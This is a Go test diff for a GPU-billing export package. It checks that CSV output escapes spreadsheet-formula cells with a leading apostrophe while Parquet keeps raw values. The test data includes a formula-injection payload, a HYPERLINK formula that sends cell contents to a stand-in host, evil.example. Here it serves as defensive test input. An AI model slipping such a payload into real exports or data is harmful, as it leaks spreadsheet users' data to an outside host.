@@ -2,12 +2,19 @@ package focus
 
 import (
 	"bytes"
+	"context"
 	"encoding/csv"
 	"encoding/json"
 	"fmt"
 	"math"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
 	"testing"
 	"time"
+
+	"github.com/parquet-go/parquet-go"
 
 	"github.com/slicemeter/slicemeter/attribution/report"
 )
@@ -137,5 +144,95 @@ func TestResourceType(t *testing.T) {
 		if got := *Usage(report.AllocationRow{Kind: tc.kind, Fraction: 1, Allocated: time.Hour}, Period{}, DefaultIssuer).ResourceType; got != tc.want {
 			t.Errorf("kind %q: ResourceType %q, want %q", tc.kind, got, tc.want)
 		}
+	}
+}
+
+// TestCSVFormulaCells: a text cell a spreadsheet would evaluate (a scheduler's allocation id,
+// and the description that quotes it) gets a leading ' in the CSV, as in the other CSV
+// writers; numbers stay numbers and the Parquet file keeps the raw value.
+func TestCSVFormulaCells(t *testing.T) {
+	p := PeriodOf(time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), time.UTC)
+	for _, id := range []string{`=HYPERLINK("http://evil.example/?x="&A2,"click")`, "+1", "-1", "@SUM(A1)", "\tx", "\rx"} {
+		r := Usage(report.AllocationRow{Tenant: "acme", AllocationID: id, Tier: "std", Node: "n", Instance: "i", Kind: "mig",
+			Model: "A100", Profile: "1g.10gb", Fraction: 1, Allocated: time.Hour, ListCost: -1, Cost: -1, Currency: "USD",
+			WindowStart: p.Start, WindowEnd: p.Start.Add(time.Hour)}, p, DefaultIssuer)
+		var csvOut, pqOut bytes.Buffer
+		for _, out := range []struct {
+			b *bytes.Buffer
+			f Format
+		}{{&csvOut, CSV}, {&pqOut, Parquet}} {
+			w, err := NewWriter(out.b, out.f)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if err := w.Write(r); err != nil {
+				t.Fatal(err)
+			}
+			if err := w.Close(); err != nil {
+				t.Fatal(err)
+			}
+		}
+		rows, err := csv.NewReader(&csvOut).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("%q: %d rows, %v", id, len(rows), err)
+		}
+		col := map[string]string{}
+		for i, name := range rows[0] {
+			col[name] = rows[1][i]
+		}
+		if got := col["x_AllocationId"]; got != "'"+id {
+			t.Errorf("x_AllocationId %q, want %q", got, "'"+id)
+		}
+		if got := col["ChargeDescription"]; got != "'"+r.ChargeDescription {
+			t.Errorf("ChargeDescription %q, want %q", got, "'"+r.ChargeDescription)
+		}
+		if got := col["BilledCost"]; got != "-1.0" {
+			t.Errorf("BilledCost %q, want -1.0 (a number is never prefixed)", got)
+		}
+		pq, err := parquet.Read[Row](bytes.NewReader(pqOut.Bytes()), int64(pqOut.Len()))
+		if err != nil || len(pq) != 1 {
+			t.Fatalf("%q: Parquet %d rows, %v", id, len(pq), err)
+		}
+		if pq[0].XAllocationID == nil || *pq[0].XAllocationID != id || pq[0].ChargeDescription != r.ChargeDescription {
+			t.Errorf("Parquet x_AllocationId %v, ChargeDescription %q: want the raw %q", pq[0].XAllocationID, pq[0].ChargeDescription, id)
+		}
+	}
+}
+
+// TestMonthFilesFormulaCells: the period close's focus-YYYY-MM.csv writes a formula
+// allocation id with a leading ' in x_AllocationId and ChargeDescription; the .parquet beside
+// it keeps the raw id.
+func TestMonthFilesFormulaCells(t *testing.T) {
+	const id = `=HYPERLINK("http://evil.example/?x="&A2,"click")`
+	p := PeriodOf(time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC), time.UTC)
+	e := Export{Report: func(_ context.Context, from, to time.Time) (report.Report, error) {
+		rep := report.Report{WindowStart: from, WindowEnd: to, Currency: "USD"}
+		if from.Equal(p.Start) { // one hour billed: one Usage row
+			rep.Allocations = []report.AllocationRow{{Tenant: "acme", AllocationID: id, Tier: "pro", Node: "n", Instance: "gpu0", Kind: "gpu",
+				Model: "A100-SXM4-40GB", Fraction: 1, Allocated: time.Hour, Cost: 1, ListCost: 1, Currency: "USD", WindowStart: from, WindowEnd: to}}
+		}
+		return rep, nil
+	}}
+	dir := t.TempDir()
+	if _, err := (&ExportFlags{Dir: dir, Issuer: "GPU Cloud Inc."}).Month(context.Background(), e, p, report.Report{}); err != nil {
+		t.Fatal(err)
+	}
+	f, err := os.Open(filepath.Join(dir, "focus-"+p.Name+".csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := csv.NewReader(f).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("%d rows, %v", len(rows), err)
+	}
+	for _, col := range []string{"x_AllocationId", "ChargeDescription"} {
+		if got := rows[1][slices.Index(rows[0], col)]; !strings.HasPrefix(got, "'"+id) {
+			t.Errorf("%s %q, want it to start with '%s", col, got, id)
+		}
+	}
+	pq, err := parquet.ReadFile[Row](filepath.Join(dir, "focus-"+p.Name+".parquet"))
+	if err != nil || len(pq) != 1 || pq[0].XAllocationID == nil || *pq[0].XAllocationID != id {
+		t.Errorf("Parquet: %v, %d rows; want the raw id", err, len(pq))
 	}
 }
